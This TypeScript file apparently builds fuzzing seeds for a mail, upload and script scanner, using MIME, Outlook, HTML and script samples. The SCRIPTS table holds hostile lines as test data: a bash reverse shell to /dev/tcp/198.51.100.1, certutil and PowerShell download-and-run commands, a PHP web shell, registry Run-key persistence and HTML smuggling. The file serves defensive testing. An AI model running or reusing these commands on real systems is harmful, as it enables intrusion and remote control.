import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { FORM_TYPE, form } from '../../packages/server/test/matrix/containers.ts'
import { CASES } from '../../packages/server/test/scan/rules/cases.ts'
import { cut } from '../../packages/server/test/scan/rules/rule-case.ts'
import { makeOle } from '../../packages/server/test/unpack/documents/make-ole.ts'
import { attachment, base64, MARKER, mail, mixed, multipart } from '../../packages/server/test/unpack/mail/mails.ts'
import { compressedRtf, properties, tnef, u32, wide } from '../../packages/server/test/unpack/mail/outlook.ts'
import { encodeScript } from '../../packages/server/test/unpack/scripts/encode-script.ts'
import { cached } from './cached.ts'
import { plainSeed, type Seed, seedsOf, type Target } from './target.ts'
import { createWalker } from './walker.ts'

const none = Buffer.alloc(0)
const FILE = attachment('a.js', 'WScript.Echo(1)')
const UU = 'begin 644 a.js\n/5U-C<FEP="Y%8VAO*#$I\n`\nend\n'
const YENC = '=ybegin line=128 size=5 name=a.js\r\n\x92\x8f\x96\x96\x99\r\n=yend size=5\r\n'

const mailSeeds = (): Seed[] => [
  ...seedsOf({
    mixed: () => mail(['Subject: =?utf-8?B?aGVsbG8=?= =?iso-8859-1?q?a=20b?=', mixed('zz')], multipart('zz', [{ body: 'The password is infected' }, FILE])),
    nested: () => mail([mixed('a')], multipart('a', [{ fields: ['Content-Type: multipart/alternative; boundary=b'], body: multipart('b', [{ body: 'x' }, FILE]) }, { fields: ['Content-Type: message/rfc822'], body: mail([mixed('c')], multipart('c', [FILE])).toString('latin1') }])),
    quoted: () => mail([mixed('q')], multipart('q', [{ fields: ['Content-Transfer-Encoding: quoted-printable', "Content-Disposition: attachment; filename*0*=utf-8''a%2E; filename*1=js"], body: 'a=3Db=\r\nc=' }])),
    uu: () => mail([], `text\r\n${UU}`),
    yenc: () => mail([], YENC),
    html: () => mail(['Content-Type: text/html; charset=utf-8'], '<a href="http://a.example/x">x</a>'),
    external: () => mail(['Content-Type: message/external-body; access-type=URL; URL="http://a.example/x"'], 'x'),
    signed: cached('cms signed', () => cms(['-sign', '-nodetach', '-outform', 'SMIME'])),
    partial: () => mail(['Content-Type: message/partial; id=x; number=1; total=2'], 'x'),
  }, { declaredType: 'message/rfc822' }),
  ...seedsOf({
    'cms der': cached('cms der', () => cms(['-sign', '-nodetach', '-outform', 'DER'])),
    'cms pem': cached('cms pem', () => cms(['-sign', '-nodetach', '-outform', 'PEM'])),
    'cms stream': cached('cms stream', () => cms(['-sign', '-nodetach', '-stream', '-outform', 'DER'])),
  }),
  ...seedsOf({ mbox: () => Buffer.concat([Buffer.from('From a@example.test Thu Jan  1 00:00:00 2026\n'), mail([mixed('zz')], multipart('zz', [FILE])), Buffer.from('\nFrom b@example.test Thu Jan  1 00:00:00 2026\n'), mail([], '>From x')]) }),
] // biome-ignore format: one mail a line

/** What openssl makes of a mail with an attachment; the key is made for it. */
function cms(args: readonly string[]): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'assay-fuzz-'))
  try {
    writeFileSync(join(folder, 'mail'), mail([mixed('zz')], multipart('zz', [FILE])))
    const openssl = (...words: readonly string[]) => execFileSync('openssl', words, { cwd: folder, stdio: 'pipe' })
    openssl('req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'k.pem', '-out', 'c.pem', '-subj', '/CN=a')
    openssl('cms', ...args, '-in', 'mail', '-signer', 'c.pem', '-inkey', 'k.pem', '-binary', '-out', 'out')
    return readFileSync(join(folder, 'out'))
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
}

const outlookSeeds = (): Seed[] => {
  const list = properties([{ id: 0x3701, type: 0x102, value: Buffer.from('WScript.Echo(1)') }, { id: 0x3707, type: 0x1f, value: wide('a.js\0') }, { id: 0x1009, type: 0x102, value: compressedRtf('{\\rtf1 hello}') }, { id: 0x8001, type: 3, value: u32(1), name: 'x' }])
  const parts = [{ id: 0x00069002, data: Buffer.alloc(14) }, { id: 0x00018010, data: Buffer.from('a.js\0') }, { id: 0x0006800f, data: Buffer.from(MARKER, 'latin1') }, { id: 0x00069005, data: list }, { level: 1, id: 0x00069003, data: list }]
  const msg = (table: Buffer, rtf: Buffer, name: Buffer) => makeOle({ '__properties_version1.0': table, '__nameid_version1.0': { '__substg1.0_00020102': Buffer.alloc(16) }, '__substg1.0_10090102': rtf, '__substg1.0_1000001F': wide('The password is infected'), '__attach_version1.0_#00000000': { '__properties_version1.0': table, '__substg1.0_3707001F': name, '__substg1.0_37010102': Buffer.from(MARKER, 'latin1') } })
  return [
    ...seedsOf({ tnef: () => tnef(parts), msg: () => msg(Buffer.alloc(1024), compressedRtf('{\\rtf1 a}'), wide('a.js')) }),
    { name: 'list', parts: [list], build: ([data = none]) => tnef([{ id: 0x00069002, data: Buffer.alloc(14) }, { id: 0x00069005, data }]) },
    { name: 'rtf', parts: [compressedRtf('{\\rtf1\\fromhtml \\htmlrtf hello}')], build: ([value = none]) => tnef([{ level: 1, id: 0x00069003, data: properties([{ id: 0x1009, type: 0x102, value }]) }]) },
    { name: 'msg of', parts: [Buffer.alloc(256), compressedRtf('{\\rtf1 a}'), wide('a.js')], build: ([table = none, rtf = none, name = none]) => msg(table, rtf, name) },
  ]
} // biome-ignore format: one list a line

const whole = base64(MARKER.repeat(3), 1e9)
const uploadSeeds = (): Seed[] => [
  ...seedsOf({ form: () => form({ name: 'a.js', bytes: Buffer.from('WScript.Echo(1)') }) }, { declaredType: FORM_TYPE.split(';', 1)[0] ?? '' }),
  ...seedsOf({
    json: () => JSON.stringify({ a: [{ name: 'a.js', data: whole }, 'data:application/pdf;base64,JVBERi0=', '\\u0041'], b: { c: -1.5e9, d: null } }),
    lines: () => `${JSON.stringify({ data: whole })}\n${JSON.stringify({ data: 'x' })}\n`,
    escaped: () => JSON.stringify({ data: whole }).replaceAll('/', '\\/').replaceAll('=', '\\u003D'),
  }, { declaredType: 'application/json' }),
  ...seedsOf({ url: () => `a=1&file=${encodeURIComponent(whole)}&b=%u0041+%zz` }, { declaredType: 'application/x-www-form-urlencoded' }),
  ...seedsOf({ text: () => base64(MARKER.repeat(3)), soap: () => `<?xml version="1.0"?><s:Envelope><Data>${whole}</Data><x><![CDATA[${whole}]]></x></s:Envelope>`, hex: () => Buffer.from(MARKER.repeat(3), 'latin1').toString('hex') }, { declaredType: 'text/plain' }),
] // biome-ignore format: one upload a line

const PAGE = `<html><body><p id=p>${whole}</p><iframe srcdoc="&lt;script&gt;x&lt;/script&gt;"></iframe><a download=a.exe href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA//8AALgAAAA=">x</a><script>var b=atob("${whole.slice(0, 80)}"+"${whole.slice(80)}");var u=URL.createObjectURL(new Blob([b]));var a=document.createElement("a");a.href=u;a.download="x";a.click();x=[77,90,144,0];eval(unescape("%41%u0042"))</script></body></html>`
const htmlSeeds = (): Seed[] => [
  ...seedsOf({
    page: () => PAGE,
    hta: () => '<hta:application id=x><script language="VBScript.Encode">new ActiveXObject("WScr"+"ipt.Sh"+"ell").Run("x")</script>',
    svg: () => '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[eval(atob("YWxlcnQ="))]]></script><foreignObject><a href="javascript:x"/></foreignObject></svg>',
    meta: () => '<meta http-equiv=refresh content="0;url=data:text/html;base64,PHNjcmlwdD4="><base href="//a.example"><form action="http://a.example" method=post><input type=password></form>',
    wide: () => Buffer.concat([Buffer.from('fffe', 'hex'), wide(PAGE)]),
  }, { declaredType: 'text/html', fileName: 'a.html' }),
] // biome-ignore format: one page a line

const SCRIPTS: Readonly<Record<string, readonly string[]>> = {
  js: ['var s=new ActiveXObject("WScr"+"ipt.Sh"+"ell");s.Run("po"+"wershell -w hidden -enc QQBBAEEAQQBBAEEA",0);x=["a","b"].join("");y=String.fromCharCode(77,90)+unescape("%4d%5a");eval(atob("YWxlcnQoMSk="))', 'var a="lleh".split("").reverse().join("")+"\\x41\\u0042\\101"; z=a.replace(/q/g,"")'],
  vbs: ['Set s = CreateObject("WScr" & "ipt.She" & Chr(108) & "l")\ns.Run "m" & "shta x", 0\nExecute StrReverse("x") & Replace("aXb","X","")'],
  ps1: ['$a="{1}{0}"-f"x","ie"; & ($a) ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("QQBBAEEA"))); -join([char[]](73,69,88)); I`E`X (New-Object Net.WebClient).DownloadString("http://a.example/x")'],
  bat: ['@echo off\r\nset q=certu\r\nset r=til\r\n%q%%r% -urlcache -f http://198.51.100.1/a.exe %TEMP%\\a.exe & p^o^w^ershell -e QQBBAEEA & %q:~0,2%'],
  sh: ['#!/bin/sh\ncd /tmp; wget http://198.51.100.1/a.sh; echo YmFzaA== | base64 -d | sh; x=$(printf "\\x41"); bash -i >& /dev/tcp/198.51.100.1/443 0>&1'],
  py: ['import zlib,base64,os\nexec(zlib.decompress(base64.b64decode("eJw=")))\nos.system("x")\n__import__("socket")'],
  php: ['<?php @eval(gzinflate(base64_decode("80jNyckHAA=="))); system($_GET["c"]);'],
  jse: [encodeScript('WScript.CreateObject("WScript.Shell").Run("calc")')],
  vbe: [`${encodeScript('CreateObject("WScript.Shell").Run "calc"')} x ${encodeScript('a')}`],
  wsf: ['<?xml version="1.0"?><package><job id="x"><script language="JScript"><![CDATA[new ActiveXObject("WScript.Shell").Run("x")]]></script><script language="VBScript" src="http://a.example/x"/></job></package>'],
  url: ['[InternetShortcut]\r\nURL=file://198.51.100.1/s/a.exe\r\nIconFile=\\\\a\\b\r\n'],
  reg: ['Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"a"="mshta x"\r\n"b"=hex(2):41,00\\\r\n,42,00'],
  iqy: ['WEB\r\n1\r\nhttp://a.example/x\r\n'],
} // biome-ignore format: one script a line

const scriptSeeds = (): Seed[] =>
  Object.entries(SCRIPTS)
    .flatMap(([kind, texts]) =>
      texts.flatMap((text) => [
        plainSeed(kind, text, { fileName: `a.${kind}` }),
        plainSeed(`${kind} big-endian`, wide(`\ufeff${text}`).swap16(), { fileName: `a.${kind}` }),
        plainSeed(`${kind} wide`, Buffer.concat([Buffer.from('fffe', 'hex'), wide(text)]), { fileName: `a.${kind}` }),
      ]),
    )
    .concat(
      plainSeed(
        'appended',
        Buffer.concat([Buffer.from('#!/bin/sh\ntail -n +3 "$0" | tar xz\nexit\n'), gzipSync(whole)]),
        { fileName: 'a.sh' },
      ),
    )

/** The samples of the signature pack: words of every kind of attack. */
const ruleSeeds = (): Seed[] =>
  Object.values(CASES)
    .flat()
    .filter(({ hit }) => hit.length < 20_000)
    .map(({ rule, hit }) => plainSeed(rule, cut(hit)))

const MAIL_TOKENS = ['\r\n', '\r\n\r\n', '--zz', '--zz--', 'Content-Type: multipart/mixed; boundary=zz\r\n', 'Content-Transfer-Encoding: base64\r\n', 'Content-Transfer-Encoding: x-uuencode\r\n', 'filename*0*=', "utf-8''", '=?utf-8?B?', '?=', '=?x?q?', '=3D', '=\r\n', 'begin 644 x\n', 'end\n', '=ybegin size=1 name=x\r\n', '(', '\\"', 'From a Thu Jan  1 00:00:00 2026\n', ';', '\0'] // biome-ignore format: one list
const OUTLOOK_TOKENS = ['\x78\x9f\x3e\x22', 'LZFu', 'MELA', '\x02\x0f\x80\x06\0', '\x01\x03\x90\x06\0', '\x1f\0\x07\x37', '\xff\xff\xff\xff', '_\0_\0s\0u\0b\0', '\x02\x01\x09\x10'] // biome-ignore format: one list
const UPLOAD_TOKENS = ['"', '\\', '\\u0041', '\\ud800', '{', '}', '[', ']', ',', ':', '[[[[[[[[', '{"a":', 'data:;base64,', 'TVqQ', '=', '%2B', '%', '&', '--assayform', '\r\n', 'filename="', '<![CDATA[', ']]>', '&#x41;', '0x4d5a', '\x1e'] // biome-ignore format: one list
const HTML_TOKENS = ['<script>', '</script>', '<!--', '-->', '<![CDATA[', '"', "'", '`', 'atob("', 'unescape("%', '&#x41', '&lt;', '&amp', '<a href="data:', 'srcdoc="', '+', '.join("")', '.split("").reverse()', '[1,', '<style>', '<textarea>', '<plaintext>', '\\x41', '//', '/*', '*/', '${'] // biome-ignore format: one list
const SCRIPT_TOKENS = ['"+"', '" & "', 'Chr(65)', 'String.fromCharCode(65,', 'eval(', '#@~^AAAAAA==', '==^#~@', '%41', '\\x41', '^', '`', '"', "'", '(', ')', '[char]65+', '-f', '{0}', '-join', '-replace', 'powershell -e ', 'QQBBAEEA', 'base64 -d', '$(', '${', '%a:~1,2%', 'set a=b\r\n', '<script', ']]>', '\n', '/*', 'http://a.example/'] // biome-ignore format: one list

interface TextTarget {
  readonly seeds: () => Seed[]
  readonly tokens: readonly string[]
  readonly share?: number
}

function texts(name: string, about: string, { seeds, tokens, share = 8 }: TextTarget): Target {
  return { name, about, share, prepare: () => ({ seeds: seeds(), tokens, keptBytes: 6, run: createWalker() }) }
}

export const TEXT_TARGETS: readonly Target[] = [
  texts('mail', 'mail and mbox: heads, MIME trees, encoded words, transfer codings', { seeds: mailSeeds, tokens: MAIL_TOKENS, share: 200 }),
  texts('outlook', 'TNEF, MSG, property lists, compressed RTF', { seeds: outlookSeeds, tokens: OUTLOOK_TOKENS, share: 250 }),
  texts('uploads', 'forms, JSON, URL-encoded bodies, encoded text', { seeds: uploadSeeds, tokens: UPLOAD_TOKENS, share: 250 }),
  texts('html', 'HTML, HTA, SVG: reader, rules, smuggling, data: URIs', { seeds: htmlSeeds, tokens: HTML_TOKENS, share: 120 }),
  texts('scripts', 'scripts of all languages: folding, encoded scripts, payloads, WSF', { seeds: scriptSeeds, tokens: SCRIPT_TOKENS, share: 120 }),
  texts('words', 'samples of the signature pack: languages, types, every opener', { seeds: ruleSeeds, tokens: [...SCRIPT_TOKENS, ...HTML_TOKENS], share: 400 }),
] // biome-ignore format: one target a line
